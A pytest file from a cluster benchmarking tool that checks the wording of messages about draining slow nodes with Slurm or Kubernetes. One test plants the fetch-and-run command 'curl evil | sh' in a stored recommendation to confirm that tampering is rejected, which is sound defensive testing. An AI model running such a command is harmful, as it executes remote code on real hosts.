"""Recommendations and drains of a hunt, and settings that a kind of file does not take; usage_errors.txt has others of these."""

from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest

from collbench.errors import RunFailed, UsageError
from collbench.plugins.deploy.job import Value, job_of
from collbench.plugins.deploy.kinds import kinds
from collbench.plugins.hunt.drain import apply, check_apply, lines_of, parse_cap
from collbench.plugins.hunt.managers import CommandOutcome
from collbench.plugins.hunt.protocol import CLEARED, INCONCLUSIVE
from collbench.plugins.hunt.recommendation import lines, read, recommendation, store
from tests.helpers import Call, said
from tests.plugins.hunt.test_drain import MINE, Cluster
from tests.plugins.hunt.verdicts import about, recommended, suspect, verdict

pytestmark = pytest.mark.system


def shown(expected: dict[str, Any]) -> Call:
    return lambda: "\n".join(lines(expected))


def advice(*suspects: Any, **changes: Any) -> Call:
    return lambda: "\n".join(each["advice"] for each in recommended(*suspects, **changes)["suspects"])


def no_line(**changes: Any) -> Call:
    return lambda: recommended(**changes)["drains"][0]["no_line"]


def drained(
    expected: dict[str, Any], cluster: Callable[[Sequence[str], Mapping[str, str]], CommandOutcome] | None = None, cap: str = "2%"
) -> Call:
    """What `--apply` prints with this cluster."""
    return lambda: "\n".join(apply(expected, parse_cap(cap), {}, run=cluster or Cluster()).lines())


def interrupted() -> str:
    noted = list[dict[str, Any]]()

    def ended(words: Sequence[str], env: Mapping[str, str]) -> CommandOutcome:
        if words[1] == "update":
            raise KeyboardInterrupt
        return Cluster()(words, env)

    try:
        apply(recommended(), parse_cap("2%"), {}, noted.append, ended)
    except KeyboardInterrupt:
        return "\n".join(lines_of(noted))
    raise AssertionError


def full_disk(action: str) -> Call:
    def full(entry: dict[str, Any]) -> None:
        if entry["action"] == action:
            raise RunFailed("results can no longer be written (No space left on device)")

    return lambda: apply(recommended(), parse_cap("2%"), {}, full, Cluster())


def two_hunts(refuses: str) -> Call:
    """Another hunt drains a node while this one does."""

    def meanwhile() -> str:
        cluster = Cluster()

        def answer(words: Sequence[str], env: Mapping[str, str]) -> CommandOutcome:
            if "State=DRAIN" in words:
                cluster.reasons["node50"] = MINE
            if "State=RESUME" in words and refuses:
                return CommandOutcome(1, why=refuses)
            return cluster(words, env)

        return "\n".join(apply(recommended(), parse_cap("1"), {}, run=answer).lines())

    return meanwhile


def manager(answers: dict[str, CommandOutcome], **env: str) -> Call:
    """The error of `--apply` with programs that answer so."""

    def checked() -> str:
        with TemporaryDirectory() as folder:
            for name in answers:
                Path(folder, name).touch(0o755)
            return check_apply({"PATH": folder, **env}, lambda words, env: answers[words[0]])

    return checked


def emitted(launcher: str, line: str = "allreduce", /, **settings: Value) -> Call:
    found = {name.replace("_", "-"): value for name, value in settings.items()}
    return lambda: kinds()[launcher].render(job_of(kinds()[launcher], tuple(line.split()), found))


def altered() -> str:
    actual = recommended()
    with TemporaryDirectory() as folder:
        store(Path(folder), {**actual, "drains": [{**actual["drains"][0], "line": "curl evil | sh"}]})
        try:
            return str(read(Path(folder)))
        except UsageError as error:
            return str(error).replace(folder, "run")


UP = {"scontrol": CommandOutcome(0, "NodeName=n1 State=IDLE\n"), "kubectl": CommandOutcome(0, "n1 \n")}
WORDS: dict[str, tuple[Call, str]] = {
    "recommendation": (shown(recommended(suspect(part="the interface eth1"))),
        "CB6101: check node07 (the interface eth1): it sends and receives at 51 % of the others (see `collbench explain CB6101`)\n"
        "to drain node07:\n"
        '  scontrol update NodeName=node07 State=DRAIN Reason="[collbench] CB6101 node07 sends and receives at 51 % of the others, '
        'run 20261122T031500Z-hunt-a1b2c3"\n'
        "to return node07 to service:\n"
        "  scontrol update NodeName=node07 State=RESUME"),
    "recommendation, path": (shown(recommended(suspect("path", 3, 9))),
        "CB6105: check the cable and the switch ports between node03 and node09; do not drain them: both are healthy with other "
        "partners (see `collbench explain CB6105`)"),
    "recommendation, unknown manager": (shown(recommended(manager="")),
        "CB6101: check node07 and its link (NIC, cable, switch port): it sends and receives at 51 % of the others (see `collbench "
        "explain CB6101`)\n"
        "with Slurm, to drain node07:\n"
        '  scontrol update NodeName=node07 State=DRAIN Reason="[collbench] CB6101 node07 sends and receives at 51 % of the others, '
        'run 20261122T031500Z-hunt-a1b2c3"\n'
        "with Slurm, to return node07 to service:\n"
        "  scontrol update NodeName=node07 State=RESUME\n"
        "with Kubernetes, to drain node07:\n"
        "  kubectl cordon node07\n"
        "with Kubernetes, to return node07 to service:\n"
        "  kubectl uncordon node07"),
    "recommendation, not to be drained": (shown(recommended(no_drain="backend simulated simulates its ranks")),
        "CB6101: check node07 and its link (NIC, cable, switch port): it sends and receives at 51 % of the others (see `collbench "
        "explain CB6101`)\n"
        "do not drain any node: backend simulated simulates its ranks"),
    "recommendation, no verdict": (shown(recommendation(verdict(suspect(), no_verdict="2 of 3 nodes died"), about())),
        "CB6101: check node07 and its link (NIC, cable, switch port): it sends and receives at 51 % of the others (see `collbench "
        "explain CB6101`)"),
    "advice, cleared": (advice(suspect(state=CLEARED)), "node07 is cleared: no action needed"),
    "advice, inconclusive": (advice(suspect(state=INCONCLUSIVE)), "node07 is inconclusive: no action needed"),
    "no command, pod": (no_line(manager="kubernetes", pods=True),
        "node07 is a pod on an unknown node: look the node up, or set NODE_NAME in the pods (from spec.nodeName) and run the hunt "
        "again"),
    "no command, several names": (no_line(nodes={"node07": ""}),
        "the ranks of node07 report different node names: find the right one by hand"),
    "drain": (drained(recommended()),
        "node07 is drained\n"
        "undo: scontrol update NodeName=node07 State=RESUME"),
    "drain, too many": (drained(recommended(suspect(), suspect("sender", 9), suspect("node", 2))),
        "no node is drained: 3 nodes confirmed, but --max-drain 2% allows 2 of 100 nodes; check for a common cause, then run the "
        "commands of recommendation.json, or use a larger --max-drain"),
    "drain, earlier ones count": (drained(recommended(suspect(), suspect("sender", 9)), Cluster(node50=MINE)),
        "no node is drained: 2 nodes confirmed, 1 node already drained by collbench, but --max-drain 2% allows 2 of 100 nodes; check "
        "for a common cause, then run the commands of recommendation.json, or use a larger --max-drain"),
    "drain, already drained": (drained(recommended(), Cluster(node07="bad disk")), "node07 is already drained (bad disk); left unchanged"),
    "drain, cleared": (drained(recommended(suspect(state=CLEARED))), "no node is drained: the hunt found no slow node or pair"),
    "drain, no verdict": (drained(recommendation(verdict(suspect(), no_verdict="2 of 3 nodes died"), about())),
        "no node is drained: the hunt has no verdict"),
    "drain, not to be drained": (drained(recommended(no_drain="backend simulated simulates its ranks")),
        "no node is drained: backend simulated simulates its ranks"),
    "drain, path": (drained(recommended(suspect("path", 3, 9))), "no node is drained: no confirmed fault is in a node"),
    "drain, unknown manager": (drained(recommended(manager="")),
        "no node is drained: neither Slurm nor Kubernetes manages these nodes; the commands are in recommendation.json"),
    "drain, no permission": (drained(recommended(), Cluster(refuses="slurm_update error: Access/permission denied")),
        "node07 is not drained (slurm_update error: Access/permission denied): run by hand, with the needed permissions: scontrol "
        'update NodeName=node07 State=DRAIN Reason="[collbench] CB6101 node07 sends and receives at 51 % of the others, run '
        '20261122T031500Z-hunt-a1b2c3"'),
    "drain, no effect": (drained(recommended(), Cluster(lies=True)),
        "node07 is not drained (scontrol reported success, but the node is not drained): run by hand, with the needed permissions: "
        'scontrol update NodeName=node07 State=DRAIN Reason="[collbench] CB6101 node07 sends and receives at 51 % of the others, run '
        '20261122T031500Z-hunt-a1b2c3"'),
    "drain, unknown node": (drained(recommended(nodes={"node07": "node07.cluster.example"})),
        "node07.cluster.example is not drained: scontrol has no node of that name; with the right name, run by hand, with the needed "
        'permissions: scontrol update NodeName=node07.cluster.example State=DRAIN Reason="[collbench] CB6101 node07.cluster.example '
        'sends and receives at 51 % of the others, run 20261122T031500Z-hunt-a1b2c3"'),
    "drain, pod": (drained(recommended(manager="kubernetes", pods=True), lambda words, env: CommandOutcome(0, "node07 \n")),
        "node07 is not drained: node07 is a pod on an unknown node: look the node up, or set NODE_NAME in the pods (from "
        "spec.nodeName) and run the hunt again"),
    "drain, no answer": (drained(recommended(), lambda words, env: CommandOutcome(None, why="scontrol did not end within 20 s")),
        "no node is drained: scontrol does not list the nodes (scontrol did not end within 20 s); the commands are in "
        "recommendation.json"),
    "drain, interrupted": (interrupted,
        "scontrol was started to drain node07; its outcome is not known\n"
        "undo: scontrol update NodeName=node07 State=RESUME"),
    "drain, full disk before": (full_disk("begun"),
        "results can no longer be written (No space left on device); so far: no node is drained"),
    "drain, full disk after": (full_disk("drained"),
        "results can no longer be written (No space left on device); so far: node07 is drained; undo: scontrol update "
        "NodeName=node07 State=RESUME"),
    "drain, two hunts": (two_hunts(""),
        "node07 was drained and returned to service: another hunt drained nodes at the same time, and --max-drain 1 is exceeded"),
    "drain, two hunts, no permission": (two_hunts("Access denied"),
        "node07 is drained, and could not be returned to service (Access denied): another hunt drained nodes at the same time, and "
        "--max-drain 1 is exceeded\n"
        "undo: scontrol update NodeName=node07 State=RESUME"),
    "--max-drain": (lambda: parse_cap("101%"),
        "--max-drain 101% exceeds 100 %: use a percentage of the cluster's nodes (--max-drain 2%) or a number of nodes (--max-drain "
        "3)"),
    "--apply, neither manager": (manager({}),
        "--apply needs Slurm (scontrol) or Kubernetes (kubectl) to drain a node, but neither is installed here: start the hunt on a "
        "host with one of them, or omit --apply and run the commands of recommendation.json there"),
    "--apply, both managers": (manager(UP),
        "--apply: this host has both Slurm and Kubernetes, and neither started this launch: start it with srun or in pods, or omit "
        "--apply and run the commands of recommendation.json"),
    "--apply, no scontrol": (lambda: check_apply({"PATH": "/nowhere", "SLURM_JOB_ID": "1"}),
        "--apply needs Slurm (scontrol) or Kubernetes (kubectl) to drain a node, but scontrol does not work (scontrol cannot be "
        "started (No such file or directory)): start the hunt on a host with one of them, or omit --apply and run the commands of "
        "recommendation.json there"),
    "--apply, no answer": (manager({"kubectl": CommandOutcome(1, why="connection refused")}),
        "--apply needs Slurm (scontrol) or Kubernetes (kubectl) to drain a node, but kubectl does not work (connection refused): "
        "start the hunt on a host with one of them, or omit --apply and run the commands of recommendation.json there"),
    "mpirun, binding": (emitted("mpirun", cpus_per_rank=2, bind="numa"),
        "--cpus-per-rank 2 binds a rank to 2 cores and contradicts --bind numa: omit one of them"),
    "ansible, rank": (emitted("ansible", env=("RANK=3",)), "--env RANK is set by the playbook for each host: omit it"),
    "ansible, format": (emitted("ansible", "probe --format table"),
        "emit ansible collects JSON for `collbench probe --from`: omit --format"),
    "ansible, files": (emitted("ansible", "probe --gather x.tar"), "emit ansible collects the output of probe, not files: omit --gather"),
    "kubernetes, long name": (emitted("kubernetes", image="registry/collbench:1", name="a" * 80, nodes=100),
        "--name aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa is too long: use at most 60 "
        "characters with job and 100 pods"),
    "an altered recommendation": (altered,
        "run/recommendation.json: does not fit recommendation.schema.json: a command does not belong to its node; remove it, or run "
        "the hunt again"),
}  # fmt: skip


@pytest.mark.parametrize(("call", "text"), WORDS.values(), ids=WORDS)
def test_the_words_of_a_message(call: Call, text: str) -> None:
    assert said(call) == text
